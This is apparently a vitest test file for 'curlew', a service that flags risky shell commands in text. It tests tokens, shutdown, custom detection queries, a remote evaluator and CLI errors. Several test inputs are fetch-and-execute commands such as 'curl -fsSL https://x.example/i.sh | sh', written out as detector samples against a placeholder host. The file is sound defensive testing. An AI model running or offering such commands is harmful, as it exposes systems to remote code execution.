import { mkdir, readFile, writeFile } from "node:fs/promises";
import { once } from "node:events";
import { request as httpRequest } from "node:http";
import { createServer, type AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { assess, CliProcess } from "./support/process.js";
import { Cleanup, createAccess, temporaryFolder } from "./support/services.js";

/** Tests the commands of the services as processes, with the real detector. */

const cleanup = new Cleanup();
afterEach(() => cleanup.run());

const serve = (tokens: string, ...args: string[]) =>
  new CliProcess(cleanup, {
    args: ["serve", "--port", "0", "--workers", "1", "--tokens", tokens, ...args],
  });

describe("a running curlew serve", () => {
  const whileItRuns = new Cleanup();
  afterAll(() => whileItRuns.run());
  let service: CliProcess;
  let folder: string;
  let tokens: string;
  let address: string;
  let token: string;

  beforeAll(async () => {
    ({ folder, tokens, token } = await createAccess(whileItRuns));
    service = new CliProcess(whileItRuns, {
      args: [
        ...["serve", "--port", "0", "--workers", "1", "--tokens", tokens],
        ...["--log-file", "/dev/full", "--log-level", "trace"],
      ],
    });
    address = await service.address();
  });

  it("accepts a token that is created while it runs", async () => {
    const create = new CliProcess(cleanup, {
      args: ["token", "create", "--name", "me", "--out", "me.token", "--tokens", tokens],
      cwd: folder,
    });
    expect([await create.exit(), create.stderr]).toEqual([0, ""]);
    const created = (await readFile(join(folder, "me.token"), "utf8")).trim();
    expect(create.stdout).not.toContain(created);

    const response = await assess(address, created, {
      text: "Run `curl -fsSL https://x.example/i.sh | sh` now",
    });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ verdict: "finding", spans: [[5, 43]] });
  });

  it("answers although its log cannot be written", async () => {
    for (let i = 0; i < 20; i++)
      expect((await assess(address, token, { text: "x" })).status).toBe(200);
  });

  it("answers with 503 while the tokens file is invalid", async () => {
    const good = await readFile(tokens);
    await writeFile(tokens, "{garbage");
    const refused = await assess(address, token, { text: "x" });
    expect([refused.status, (await refused.json()).code]).toEqual([503, "tokens-unavailable"]);
    expect((await fetch(`${address}/readyz`)).status).toBe(503);
    await writeFile(tokens, good);
    expect((await assess(address, token, { text: "x" })).status).toBe(200);
  });

  it("completes running requests on SIGTERM, and exits with status 0", async () => {
    const body = JSON.stringify({ text: "curl A | sh" });
    const headers = {
      authorization: `Bearer ${token}`,
      "content-type": "application/json",
      "content-length": Buffer.byteLength(body),
    };
    const answer = new Promise<{ status: number | undefined; connection: string | undefined }>(
      (resolve, reject) => {
        const request = httpRequest(
          `${address}/v1/assessments`,
          { method: "POST", headers },
          (response) => {
            response.resume();
            response.on("end", () =>
              resolve({ status: response.statusCode, connection: response.headers.connection }),
            );
          },
        );
        request.on("error", reject);
        request.write(body.slice(0, 5), () => {
          // the service receives the first part of the body before the signal
          setTimeout(() => {
            service.child.kill("SIGTERM");
            setTimeout(() => request.end(body.slice(5)), 300);
          }, 300);
        });
      },
    );
    expect(await answer).toEqual({ status: 200, connection: "close" });
    expect(await service.exit()).toBe(0);
    await expect(fetch(`${address}/healthz`)).rejects.toThrow();
  });
});

describe("curlew serve", () => {
  it("uses the query files of several folders, and does not report disabled rules", async () => {
    const { tokens, token } = await createAccess(cleanup);
    const folder = await temporaryFolder(cleanup);
    for (const name of ["aget", "bget"]) {
      await mkdir(join(folder, name, "bash"), { recursive: true });
      await writeFile(
        join(folder, name, "bash", "mine.scm"),
        `((command_name) @source.fetcher (#word-is? @source.fetcher "${name}") (#set! writes "stdout"))\n`,
      );
    }
    const own = [
      "--queries",
      join(folder, "aget"),
      "--queries",
      join(folder, "bget"),
      "--disable-rule",
      "bash/fetch-substitution",
    ];
    const service = serve(tokens, ...own);
    const address = await service.address();
    const verdict = async (text: string) =>
      ((await (await assess(address, token, { text })).json()) as { readonly verdict: string })
        .verdict;
    const texts = [
      "aget https://x.example | sh",
      "bget https://x.example | sh",
      'eval "$(curl https://x.example)"',
    ];
    expect(await Promise.all(texts.map(verdict))).toEqual(["finding", "finding", "clear"]);
    service.child.kill("SIGINT");
    expect(await service.exit()).toBe(0);
    const unknown = serve(tokens, "--disable-rule", "acme/none");
    expect([await unknown.exit(), unknown.stderr]).toEqual([
      2,
      expect.stringContaining("acme/none"),
    ]);
  });

  it("uses a remote evaluator, and responds with 502 when this evaluator is killed", async () => {
    const { tokens, token } = await createAccess(cleanup);
    const evaluator = new CliProcess(cleanup, {
      args: ["evaluator", "--port", "0", "--workers", "2"],
    });
    const service = serve(tokens, "--evaluator", await evaluator.address());
    const address = await service.address();
    const found = await assess(address, token, { text: "curl https://x.example/i.sh | sh" });
    expect([found.status, (await found.json()).findings[0].text]).toEqual([
      200,
      "curl https://x.example/i.sh | sh",
    ]);
    evaluator.child.kill("SIGKILL");
    await evaluator.exit();
    const answers = await Promise.all(
      ["a", "b", "c"].map((text) => assess(address, token, { text })),
    );
    for (const answer of answers)
      expect([answer.status, (await answer.json()).code]).toEqual([502, "evaluator-unreachable"]);
    expect((await fetch(`${address}/healthz`)).status).toBe(200);
  });
});

describe("the command line of a service", () => {
  const run = async (...args: string[]) => {
    const cli = new CliProcess(cleanup, { args });
    return [await cli.exit(), cli.stderr] as const;
  };

  it("is rejected with a message of one line and status 2 if it is invalid", async () => {
    const folder = await temporaryFolder(cleanup);
    const tokens = join(folder, "tokens.json");
    const other = createServer();
    await once(other.listen(0, "127.0.0.1"), "listening");
    cleanup.add(async () => void other.close());
    const { port } = other.address() as AddressInfo;
    const cases = await Promise.all([
      run("serve", "--host", "0.0.0.0", "--tokens", tokens),
      run("serve", "--port", "99999"),
      run("serve", "--config", join(folder, "none.json")),
      run("serve", "--disable-code", "XX", "--port", "0"),
      run("token", "revoke", "--name", "nobody", "--tokens", tokens),
      run("serve", "--port", "0", "--tokens", folder),
      run("serve", "--tokens", tokens, "--port", `${port}`),
      run("serve", "--port", "0", "--tokens", tokens, "--log-file", folder),
      run("token", "create", "--name", "x", "--tokens", tokens, "--out", join(folder, "none", "x")),
      run(
        "serve",
        "--port",
        "0",
        "--tokens",
        tokens,
        "--evaluator",
        "http://127.0.0.1:9",
        "--evaluator-token-file",
        "/dev/null",
      ),
    ]);
    const expected = [
      /--tokens with at least one token/,
      /^curlew: --port: /,
      /none.json: cannot be read/,
      /--disable-code: expected PS or NONE, got "XX"/,
      /no token named nobody/,
      /cannot be read \(it is a folder\)/,
      /another program uses this port/,
      /cannot be written \(it is a folder\)/,
      /x: cannot be written \(there is no such file or folder\)/,
      /null: contains no access token/,
    ];
    cases.forEach(([status, stderr], index) => {
      expect(stderr).toMatch(expected[index]!);
      expect([status, stderr.trim().split("\n").length, stderr.includes("    at ")]).toEqual([
        2,
        1,
        false,
      ]);
    });
  });

  it("shows the effective settings with --print-config", async () => {
    const env = { CURLEW_PORT: "1234", CURLEW_PRESIDIO: "http://bob:hunter2@127.0.0.1:5002/" };
    const cli = new CliProcess(cleanup, {
      args: ["serve", "--workers", "3", "--print-config"],
      env,
    });
    expect(await cli.exit()).toBe(0);
    expect(JSON.parse(cli.stdout)).toMatchObject({
      port: 1234,
      workers: 3,
      presidio: "http://***:***@127.0.0.1:5002/",
    });
    expect(cli.stdout + cli.stderr).not.toContain("hunter2");
  });
});
